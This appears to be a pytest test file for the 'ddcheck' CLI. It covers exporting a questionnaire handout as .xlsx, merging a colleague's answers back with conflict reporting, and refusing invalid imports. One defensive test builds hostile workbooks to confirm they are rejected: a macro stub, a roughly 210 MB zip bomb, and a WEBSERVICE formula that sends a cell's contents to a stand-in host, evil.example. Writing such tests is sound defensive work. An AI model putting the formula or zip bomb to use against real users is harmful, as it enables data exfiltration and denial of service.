"""`ddcheck handout` and importing the returned .xlsx: round trip, conflicts, refusals."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import openpyxl
import pytest

from ddcheck.cli.main import main


class Cli:
    """Runs ddcheck against one workspace and keeps what it printed."""

    def __init__(self, data: str, capsys: pytest.CaptureFixture) -> None:
        self.data, self.capsys, self.out, self.err = data, capsys, "", ""

    def __call__(self, *args: str) -> int:
        self.capsys.readouterr()
        code = main(["--data-dir", self.data, *args])
        captured = self.capsys.readouterr()
        self.out, self.err = captured.out, captured.err
        return code

    def json(self, *args: str) -> object:
        assert self(*args, "--json") == 0, self.err
        return json.loads(self.out)


@pytest.fixture
def cli(tmp_path: Path, capsys: pytest.CaptureFixture) -> Cli:
    runner = Cli(str(tmp_path / "ws"), capsys)
    assert runner("demo", "--lang", "en") == 0
    return runner


@pytest.fixture
def dossier_id(cli: Cli) -> str:
    return cli.json("list")[0]["id"]


def _items(cli: Cli, dossier_id: str) -> dict[str, dict]:
    return {i["key"]: i for i in cli.json("show", dossier_id)["items"]}


def _handout(cli: Cli, dossier_id: str, out: Path) -> None:
    args = ("handout", dossier_id, "--section", "ifc-screening/ps2", "--section", "step-2")
    assert cli(*args, "--to", "Fatima Haddad", "-o", str(out)) == 0, cli.err
    assert "for Fatima Haddad" in cli.out


def _rows(book: openpyxl.Workbook) -> dict[str, int]:
    ws = book["Questions"]
    return {ws.cell(row=r, column=1).value: r for r in range(2, ws.max_row + 1)}


def test_handout_workbook_has_dropdowns_locked_questions_and_a_hidden_identity(
    cli: Cli, dossier_id: str, tmp_path: Path
) -> None:
    out = tmp_path / "h.xlsx"
    _handout(cli, dossier_id, out)
    book = openpyxl.load_workbook(out)
    ws = book["Questions"]
    assert ws.protection.sheet is True
    assert ws["C2"].protection.locked and not ws["E2"].protection.locked
    assert book["ddcheck"].sheet_state == "hidden"
    assert book["ddcheck"]["B2"].value == dossier_id
    checks = ws.data_validations.dataValidation
    assert checks and all(c.type == "list" for c in checks)
    listed = [c.value for c in book["lists"]["A"]]
    assert any(str(ws[f"E{r}"].value or "") in listed for r in range(2, ws.max_row + 1))


def test_round_trip_merges_two_answers_under_the_colleagues_name_and_reports_a_conflict(
    cli: Cli, dossier_id: str, tmp_path: Path
) -> None:
    out = tmp_path / "h.xlsx"
    _handout(cli, dossier_id, out)
    before = _items(cli, dossier_id)
    book = openpyxl.load_workbook(out)
    rows = _rows(book)
    ws = book["Questions"]
    choice = [k for k in rows if before[k]["scale"] in ("maturity", "status")][:3]
    assert len(choice) == 3
    first, second, third = choice
    ws[f"E{rows[first]}"] = "2 – Ad hoc" if before[first]["scale"] == "maturity" else "Partly"
    ws[f"F{rows[third]}"] = "Checked with the recruitment agency in March"
    ws[f"F{rows[first]}"] = "Asked HR"
    edited = tmp_path / "filled.xlsx"
    book.save(edited)
    # meanwhile, in ddcheck, somebody changes the note of the first item
    assert cli("answer", dossier_id, first, "--note=changed in ddcheck") == 0

    assert cli("import", str(edited)) == 0, cli.err
    assert "Fatima Haddad" in cli.out
    assert f"{first} note: CONFLICT, skipped" in cli.out and "changed in ddcheck" in cli.out
    after = _items(cli, dossier_id)
    assert after[first]["note"] == "changed in ddcheck"  # not overwritten without asking
    assert after[first]["value"] != before[first]["value"]  # the value merged (field by field)
    assert after[third]["note"] == "Checked with the recruitment agency in March"
    assert after[second] == before[second]
    history = cli.json("history", dossier_id)
    by_her = [h for h in history if h["who"] == "Fatima Haddad (hand-out)"]
    assert {h["id"] for h in by_her} == {first, third}

    assert cli("import", str(edited), "--take-theirs") == 0
    assert _items(cli, dossier_id)[first]["note"] == "Asked HR"


def _refused(cli: Cli, dossier_id: str, path: Path, *words: str) -> None:
    before = cli.json("history", dossier_id)
    assert cli("import", str(path)) == 2
    assert "nothing changed" in cli.err and cli.err.count("\n") == 1
    for word in words:
        assert word in cli.err
    assert cli.json("history", dossier_id) == before


def test_refusals_name_the_cell_and_save_nothing(cli: Cli, dossier_id: str, tmp_path: Path) -> None:
    out = tmp_path / "h.xlsx"
    _handout(cli, dossier_id, out)
    book = openpyxl.load_workbook(out)
    rows = _rows(book)
    key = next(iter(rows))
    ws = book["Questions"]
    ws[f"E{rows[key]}"] = "Maybe"
    ws[f"F{rows[key]}"] = "fine"
    bad_value = tmp_path / "bad-value.xlsx"
    book.save(bad_value)
    _refused(cli, dossier_id, bad_value, f"Questions!E{rows[key]}", "'Maybe'")

    book = openpyxl.load_workbook(out)
    book["Questions"][f"A{rows[key]}"] = "oecd-selfscan/invented"
    changed_id = tmp_path / "changed-id.xlsx"
    book.save(changed_id)
    _refused(cli, dossier_id, changed_id, f"Questions!A{rows[key]}", "item ids")

    book = openpyxl.load_workbook(out)
    book["ddcheck"]["B2"] = "0000000000000000"
    other = tmp_path / "other.xlsx"
    book.save(other)
    _refused(cli, dossier_id, other, "another dossier")


def test_hostile_workbooks_are_refused_before_reading(
    cli: Cli, dossier_id: str, tmp_path: Path
) -> None:
    out = tmp_path / "h.xlsx"
    _handout(cli, dossier_id, out)
    macro = tmp_path / "macro.xlsx"
    with zipfile.ZipFile(out) as source, zipfile.ZipFile(macro, "w") as target:
        for part in source.infolist():
            target.writestr(part, source.read(part))
        target.writestr("xl/vbaProject.bin", b"\0" * 100)
    _refused(cli, dossier_id, macro, "macros")

    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target:
        target.writestr("xl/worksheets/sheet9.xml", b"0" * 210_000_000)
    _refused(cli, dossier_id, bomb, "unpacks to more than")

    book = openpyxl.load_workbook(out)
    book["Questions"]["F2"] = '=WEBSERVICE("http://evil.example/?"&C2)'  # no saved value
    formula = tmp_path / "formula.xlsx"
    book.save(formula)
    _refused(cli, dossier_id, formula, "Questions!F2", "formula")

    junk = tmp_path / "junk.xlsx"
    junk.write_text("not a zip")
    _refused(cli, dossier_id, junk, "not an .xlsx")
